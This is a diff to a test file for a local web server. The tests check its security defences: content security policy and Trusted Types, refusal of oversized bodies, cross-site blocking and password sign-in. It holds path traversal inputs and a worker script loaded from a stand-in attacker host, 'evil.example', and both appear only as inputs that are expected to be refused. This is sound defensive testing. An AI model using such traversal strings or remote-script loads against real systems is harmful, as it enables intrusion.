@@ -4,6 +4,7 @@ import { get } from 'node:http'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { failToStart, type RunningServer, startGalloper } from '../helpers/galloper.ts'
 import { startLoopback } from '../helpers/loopback.ts'
+import { counts, openPage, phase, start } from '../helpers/page.ts'
 import { asChunk, sendEndlessly } from '../helpers/raw-request.ts'
 
 let server: RunningServer
@@ -30,7 +31,7 @@ test.each([
   expect(output.trim().split('\n')).toHaveLength(1)
 })
 
-test('a port that is taken stops the start and names another', async () => {
+test('D9: a port that is taken stops the start and names another', async () => {
   const other = await startLoopback((_request, response) => void response.end())
   const port = new URL(other.origin).port
   const { code, output } = await failToStart({ PORT: port })
@@ -47,6 +48,7 @@ test('the page is isolated and its policy allows nothing from elsewhere', async 
   expect(policy).toContain("default-src 'none'")
   expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'")
   expect(policy).not.toContain('unsafe-inline')
+  expect(policy).toContain("require-trusted-types-for 'script'; trusted-types default")
   expect(response.headers.get('cross-origin-opener-policy')).toBe('same-origin')
   expect(response.headers.get('cross-origin-embedder-policy')).toBe('require-corp')
   expect(response.headers.get('cache-control')).toBe('no-cache')
@@ -104,11 +106,11 @@ test.each([
   '/..%2f..%2fpackage.json',
   '/%2e%2e/package.json',
   '/assets/..%2f..%2fserver%2fmain.js',
-])('%s opens no door', async (path) => {
+])('D4: %s opens no door', async (path) => {
   expect([400, 404]).toContain(await rawStatus(path))
 })
 
-test('bodies of 50 MB are refused and do not stay in memory', async () => {
+test('D10: bodies of 50 MB are refused and do not stay in memory', async () => {
   const peakMB = () =>
     Number(/VmHWM:\s*(\d+)/.exec(readFileSync(`/proc/${server.pid}/status`, 'utf8'))?.[1]) / 1000
   const head = 'POST /api/gallery HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n'
@@ -121,7 +123,7 @@ test('bodies of 50 MB are refused and do not stay in memory', async () => {
   expect(peakMB() - before).toBeLessThan(100)
 })
 
-test('another site may not use the API', async () => {
+test('D7: another site may not use the API', async () => {
   const response = await ask('/api/config', { 'sec-fetch-site': 'cross-site' })
   expect(response.status).toBe(403)
   expect(response.headers.get('access-control-allow-origin')).toBeNull()
@@ -173,7 +175,49 @@ test('with an access token nobody gets in without it, but for /healthz', async (
   await guarded.stop()
 })
 
-test('it stops when it is told to', async () => {
+test('with Trusted Types no text becomes code, no strange file a worker, and a run works', async () => {
+  const { page, problems } = await openPage(server.url)
+  const tried = await page.evaluate(() => {
+    const attempt = (act: () => void) => {
+      try {
+        act()
+        return 'allowed'
+      } catch (error) {
+        return error instanceof TypeError ? 'refused' : String(error)
+      }
+    }
+    return [
+      attempt(() => {
+        document.createElement('div').innerHTML = '<img>'
+      }),
+      attempt(() => void new Worker('https://evil.example/x.js')),
+      attempt(() => void new Worker('data:text/javascript,1')),
+    ]
+  })
+  expect(tried).toEqual(['refused', 'refused', 'refused'])
+  problems.length = 0
+  await start(page, 'hot')
+  await phase(page, 'finished', 60_000)
+  expect((await counts(page)).saved).toBeGreaterThan(0)
+  expect(problems).toEqual([])
+})
+
+test('a person signs in by the page, and the run works with the cookie alone', async () => {
+  const guarded = await startGalloper({ ACCESS_TOKEN: 'a-long-random-word' })
+  const { page } = await openPage(guarded.url)
+  await page.getByLabel('Password').fill('a-wrong-random-word')
+  await page.getByRole('button', { name: 'Sign in' }).click()
+  expect(await page.getByRole('alert').innerText()).toContain('not the password')
+  await page.getByLabel('Password').fill('a-long-random-word')
+  await page.getByRole('button', { name: 'Sign in' }).click()
+  await start(page, 'hot')
+  await phase(page, 'finished', 60_000)
+  expect((await counts(page)).saved).toBeGreaterThan(0)
+  expect(guarded.output()).not.toContain('a-long-random-word')
+  await guarded.stop()
+})
+
+test('D9: it stops when it is told to', async () => {
   const short = await startGalloper()
   await fetch(`${short.url}/healthz`)
   await short.stop()
